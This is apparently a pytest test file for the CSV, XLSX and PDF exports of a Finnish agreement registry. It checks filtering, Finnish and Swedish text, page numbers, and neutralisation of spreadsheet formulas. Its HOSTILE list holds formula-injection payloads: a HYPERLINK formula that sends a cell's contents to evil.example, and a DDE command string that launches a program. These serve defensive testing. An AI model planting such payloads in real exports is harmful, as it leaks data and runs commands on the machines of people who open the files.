"""Exports of the agreement list: CSV and XLSX honour the list's filters and never run formulas; the register
PDF reads correctly in Finnish and Swedish and shows its filters, generation time and page numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime, timedelta

import pytest
from flask_babel import force_locale
from flask_babel import gettext as _
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import select

from registry.agreements import exports, queries, rules
from registry.agreements.models import Agreement
from registry.extensions import db
from registry.i18n import today as helsinki_today
from tests.conftest import post

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Klikkaa")', "+SUM(1,2)", "-1+1", "@cmd|' /C calc'!A0",
           "\tSarkain", " =1+1"]
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def _csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline=""), delimiter=";"))


@pytest.fixture
def listed(make_agreement, make_partner):
    """A few agreements of different statuses, levels and centres, some with hostile names."""
    today = helsinki_today()
    party = make_partner("=Kaava ry")
    ids = {
        "force": make_agreement("Kelan vakuutuspiirin yhteistyömalli", status="in_force", centres=("ESRSK",),
                                parties=(party,), valid_from=today - timedelta(days=300),
                                valid_until=today + timedelta(days=20), notice_months=3, dnro="12/2024",
                                counterpart="kela_district"),
        "planned": make_agreement("Poliisilaitoksen yhteistyösopimus", status="planned", centres=("LSRSK",)),
        "local": make_agreement("Läheistyön toimintamalli", status="in_force", level="local", owner="HELV",
                                centres=("ESRSK",), valid_from=today - timedelta(days=10)),
    }
    for n, name in enumerate(HOSTILE):
        ids[f"hostile{n}"] = make_agreement(name, status="expired", centres=("IPRSK",))
    return ids


def test_csv_honours_the_filters_and_no_cell_runs_as_a_formula(app, listed, client_as):
    client = client_as("staff")
    post(client, "/language", {"lang": "en"})
    response = client.get("/agreements/export.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="agreements-')
    rows = _csv(response.get_data())
    assert rows[0][:3] == ["ID", "Name in Finnish", "Name in Swedish"]
    names = [r[1] for r in rows[1:]]
    assert len(names) == len(listed)
    for value in HOSTILE:
        assert "'" + value in names, value
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA) and not cell.lstrip(" ").startswith(FORMULA), cell
    header = rows[0]
    force = dict(zip(header, next(r for r in rows if r[1] == "Kelan vakuutuspiirin yhteistyömalli"), strict=True))
    assert force["Status"] == "In force" and force["Parties"] == "'=Kaava ry" and force["Diary number"] == "12/2024"
    until = helsinki_today() + timedelta(days=20)
    assert force["Valid until"] == f"{until.day}.{until.month}.{until.year}"
    assert force["Notice deadline"] and force["Counterpart kind"] == "Kela insurance district"

    only = _csv(client.get("/agreements/export.csv?status=in_force&centre=ESRSK&level=regional").get_data())
    assert [r[1] for r in only[1:]] == ["Kelan vakuutuspiirin yhteistyömalli"]
    expiring = _csv(client.get("/agreements/export.csv?expiring_within_days=30").get_data())
    assert [r[1] for r in expiring[1:]] == ["Kelan vakuutuspiirin yhteistyömalli"]
    searched = _csv(client.get("/agreements/export.csv?q=poliisi").get_data())
    assert [r[1] for r in searched[1:]] == ["Poliisilaitoksen yhteistyösopimus"]
    assert len(_csv(client.get("/agreements/export.csv?status=bogus").get_data())) == 1  # header only


def test_xlsx_opens_and_has_only_string_cells(app, listed, client_as):
    client = client_as("staff")
    response = client.get("/agreements/export.xlsx?status=expired")
    assert response.status_code == 200 and response.headers["Content-Disposition"].endswith('.xlsx"')
    data = response.get_data()
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(data)).active
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert len(values) == 1 + len(HOSTILE)
    names = {row[1] for row in values[1:]}
    assert names == set(HOSTILE)
    for row in sheet.iter_rows(min_row=2):
        assert all(cell.data_type == "s" for cell in row if cell.value is not None)


def _pdf_text(data: bytes) -> tuple[PdfReader, str]:
    reader = PdfReader(io.BytesIO(data))
    return reader, "\n".join(page.extract_text() for page in reader.pages)


@pytest.mark.parametrize("lang", ["fi", "sv"])
def test_register_pdf_reads_correctly_with_finnish_and_swedish_letters(app, make_agreement, client_as, lang):
    today = helsinki_today()
    make_agreement("Sijoitussopimus: Päihdekuntoutussäätiö ja Hämeenlinnan vankila", status="in_force",
                   name_sv="Placeringsavtal: Stiftelsen för missbruksrehabilitering och Tavastehus fängelse",
                   centres=("ESRSK",), valid_from=today - timedelta(days=30), valid_until=today + timedelta(days=400),
                   notice_months=3)
    make_agreement("Yhteistyö Ålands ömsesidiga ja Åbo Akademi", status="planned", centres=("LSRSK",))
    client = client_as("staff")
    post(client, "/language", {"lang": lang})
    response = client.get("/agreements/report.pdf?centre=ESRSK")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="agreement-register-')
    reader, text = _pdf_text(response.get_data())
    flat = " ".join(text.split())
    if lang == "fi":
        assert "Sijoitussopimus: Päihdekuntoutussäätiö ja Hämeenlinnan vankila" in flat
        assert "Etelä-Suomen rikosseuraamuskeskus" in flat
    else:
        assert "Placeringsavtal: Stiftelsen för missbruksrehabilitering och Tavastehus fängelse" in flat
        assert "Brottspåföljdscentralen i Södra Finland" in flat
    assert "Ålands" not in flat  # another centre's agreement is filtered out
    notice = rules.notice_deadline(today + timedelta(days=400), 3)
    assert f"{notice.day}.{notice.month}.{notice.year}" in flat
    with app.test_request_context(), force_locale(lang):
        page_label = _("Page %(page)d of %(pages)d", page=1, pages=len(reader.pages))
    assert page_label in reader.pages[0].extract_text()
    fonts = {str(font.get_object()["/BaseFont"]) for page in reader.pages
             for font in page["/Resources"]["/Font"].values()}
    assert fonts and all("DejaVuSans" in name for name in fonts)


def test_register_pdf_shows_filters_time_headers_and_page_numbers(app):
    with app.test_request_context():
        now = datetime(2026, 3, 1, 10, 5, tzinfo=UTC)
        header = ["Nimi", "Laji", "Taso", "Tila", "Omistaja", "Osapuolet", "Voimassa", "Irtisanominen"]
        rows = [[f"Sopimus {n} – Hämeenlinnan vankila ja Åbo", "Sopimus", "Alueellinen", "Voimassa",
                 "Etelä-Suomen rikosseuraamuskeskus", "Kivikylän kaupunki; Säätiö sr", "1.1.2025 – 31.12.2026",
                 "30.9.2026"] for n in range(120)]
        data = exports.render_register_pdf("Sopimusrekisteri", header, rows, texts={
            "filters": "Suodattimet: Tila: Voimassa", "generated": "Luotu 1.3.2026 12.05 (Suomen aikaa)",
            "count": "120 sopimusta", "empty": "-", "author": "Rikosseuraamuslaitos"},
            page_label="Sivu 999999 / 888888")
    reader, text = _pdf_text(data)
    pages = len(reader.pages)
    assert pages > 1
    assert "Suodattimet: Tila: Voimassa" in text and "Luotu 1.3.2026 12.05" in text
    for number, page in enumerate(reader.pages, start=1):
        page_text = page.extract_text()
        assert f"Sivu {number} / {pages}" in page_text
        assert "Irtisanominen" in page_text and "Osapuolet" in page_text  # the header on every page
    assert sum(text.count(f"Sopimus {n} ") for n in range(120)) == 120  # every row once
    assert now  # the view passes the time; render_register_pdf prints what it is given


def test_build_register_pdf_in_the_users_language(app, make_agreement):
    make_agreement("Läheistyön toimintamalli", status="in_force", centres=("ESRSK",))
    with app.test_request_context():
        agreements = exports.agreements_for_export(queries.AgreementFilters(status="in_force"))
        data = exports.build_register_pdf(agreements, filters_text="Status: In force",
                                          now=datetime(2026, 1, 15, 22, 30, tzinfo=UTC), locale="en")
    _reader, text = _pdf_text(data)
    assert "Filters: Status: In force" in text
    assert "16.1.2026 00:30" in text  # 22.30 UTC is 00.30 the next day in Helsinki
    assert "Läheistyön toimintamalli" in text
    with app.test_request_context():
        empty = exports.build_register_pdf([], filters_text="", now=datetime(2026, 1, 15, tzinfo=UTC), locale="en")
    _reader, text = _pdf_text(empty)
    assert "No filters: all agreements" in text and "No agreements match the filters." in text


def test_exports_describe_their_filters(app, reference):
    with app.test_request_context(headers={"Accept-Language": "en"}):
        assert exports.describe_filters(queries.AgreementFilters()) == ""
        text = exports.describe_filters(queries.AgreementFilters(status="in_force", centre="ESRSK",
                                                                 expiring_within_days=90))
    assert "In force" in text and "Southern Finland Criminal Sanctions Centre" in text and "90" in text


def test_export_query_count_does_not_grow_with_the_rows(app, make_agreement, count_queries):
    for n in range(3):
        make_agreement(f"Sopimus {n}", centres=("ESRSK",), status="in_force")
    with app.test_request_context(), count_queries() as few:
        exports.agreements_csv(exports.agreements_for_export(queries.AgreementFilters()))
    for n in range(3, 15):
        make_agreement(f"Sopimus {n}", centres=("ESRSK",), status="in_force")
    with app.test_request_context(), count_queries() as many:
        exports.agreements_csv(exports.agreements_for_export(queries.AgreementFilters()))
    assert len(many) == len(few)
    with app.app_context():
        assert len(db.session.scalars(select(Agreement.id)).all()) == 15


def test_a_very_long_register_is_cut_and_says_so(app, make_agreement, client_as, monkeypatch):
    monkeypatch.setattr(exports, "MAX_REGISTER_ROWS", 2)
    for name in ("Aakkosjärjestyksessä ensimmäinen", "Björkin sopimus", "Ö-sopimus viimeisenä"):
        make_agreement(name, centres=("ESRSK",))
    client = client_as("staff")
    post(client, "/language", {"lang": "en"})
    _reader, text = _pdf_text(client.get("/agreements/report.pdf").get_data())
    flat = " ".join(text.split())
    assert "The first 2 of 3 agreements: narrow the filters to see the rest." in flat
    assert "Björkin sopimus" in flat and "Ö-sopimus" not in flat
